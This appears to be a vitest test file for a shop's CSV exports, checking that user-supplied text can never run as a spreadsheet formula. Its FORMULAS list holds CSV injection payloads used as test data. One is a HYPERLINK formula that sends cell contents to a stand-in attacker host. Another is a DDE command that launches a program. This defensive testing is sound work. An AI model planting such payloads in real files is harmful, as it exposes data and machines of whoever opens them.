/** A text that somebody else wrote is never a formula in a file that staff open in a spreadsheet. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCatalogue } from '#app/features/catalogue/import/read/read-catalogue.server.ts';
import { writeBadRows } from '#app/features/catalogue/import/write-bad-rows.server.ts';
import { catalogueWriters } from '#app/features/catalogue/import/write-catalogue.ts';
import { writeBooks } from '#app/features/orders/export/write-order-export.ts';
import { csvRows } from '#app/shared/csv-file.ts';
import { wholeProduct } from '#tests/catalogue/product-fixtures.ts';
import { orderRow } from '#tests/fixtures/book-rows.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?a="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\uFF1D1+1',
] as const;

/** All cells of a CSV file. */
function cellsOf(text: string): string[] {
  const rows: string[][] = parse(text, { bom: true, relax_column_count: true });
  return rows.flat();
}

async function textOf(parts: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const part of parts) text += part;
  return text;
}

async function* bytesOf(text: string) {
  yield Buffer.from(text);
}

async function* pagesOf(text: string) {
  const row = orderRow({
    email: text,
    items: [{ line: 1, id: text, variant: text, title: text, priceCents: 1196 }],
    address: {
      ...{ name: text, line1: text, line2: text, city: text, region: text },
      ...{ postalCode: text, country: 'NO' },
    },
  });
  yield [row];
}

/** Every file of CSV that the shop writes, with `text` wherever somebody else may write. */
const FILES: Readonly<Record<string, (text: string) => Promise<string>>> = {
  'the catalogue': async (text) => {
    const product = { id: text, variant: text, title: text, description: text, category: text };
    return catalogueWriters.csv.begin + catalogueWriters.csv.write([wholeProduct(product)], true);
  },
  'the bad rows of an import': async (text) => {
    const cell = `"${text.replaceAll('"', '""')}"`;
    const file = `id,title,price,description\n${cell},${cell},${cell},${cell}\n`;
    const options = { format: 'csv', encoding: undefined, laterProblems: new Map() } as const;
    return textOf(writeBadRows(bytesOf(file), options));
  },
  'the orders': (text) =>
    textOf(writeBooks(pagesOf(text), { format: 'csv', isByLine: false, timeZone: 'UTC' })),
  'the items of the orders': (text) =>
    textOf(writeBooks(pagesOf(text), { format: 'csv', isByLine: true, timeZone: 'UTC' })),
};

for (const [name, write] of Object.entries(FILES)) {
  test.for(FORMULAS)(`no cell of ${name} is run as a formula: %j`, async (formula) => {
    const text = await write(formula);
    expect(cellsOf(text).filter((cell) => cell.includes(formula)).length).toBeGreaterThan(0);
    expect(cellsOf(text).filter((cell) => /^[=+\-@\t\r\n\uFF1D]/.test(cell))).toEqual([]);
  });

  test(`${name} says in which encoding it is, so that no spreadsheet guesses`, async () => {
    expect(await write('Käse')).toMatch(/^\uFEFF/);
  });
}

const anyStart = fc.constantFrom('', "'", "''", '=', '+', '-', '@', "'=", "''-", '- ');
const anyText = fc
  .tuple(anyStart, fc.string({ unit: 'grapheme', maxLength: 20 }))
  .map((parts) =>
    parts
      .join('')
      .replace(/[\s\p{Cc}\uFFFD]+/gu, ' ')
      .trim(),
  )
  .filter((text) => text !== '' && text.isWellFormed());

test('a text that looks like a formula, or like one that was defused, is imported as it was exported', async () => {
  await fc.assert(
    fc.asyncProperty(anyText, async (text) => {
      const { begin, write } = catalogueWriters.csv;
      const product = wholeProduct({ title: text, description: text, category: text });
      const read = [];
      for await (const judged of readCatalogue(bytesOf(begin + write([product], true)), 'csv')) {
        read.push('row' in judged ? judged.row : judged.problems);
      }
      expect(read).toEqual([product]);
    }),
  );
});

test('a text that a spreadsheet would split at its own delimiter stands in quotes', () => {
  expect(csvRows([['a;=1', 'b\t=1', 'c|=1', 'd']])).toBe('"a;=1","b\t=1","c|=1",d\r\n');
});

test('an amount below zero stays a number', () => {
  expect(csvRows([['-12.50', -3, '-5', '-5-5']])).toBe("-12.50,-3,-5,'-5-5\r\n");
});
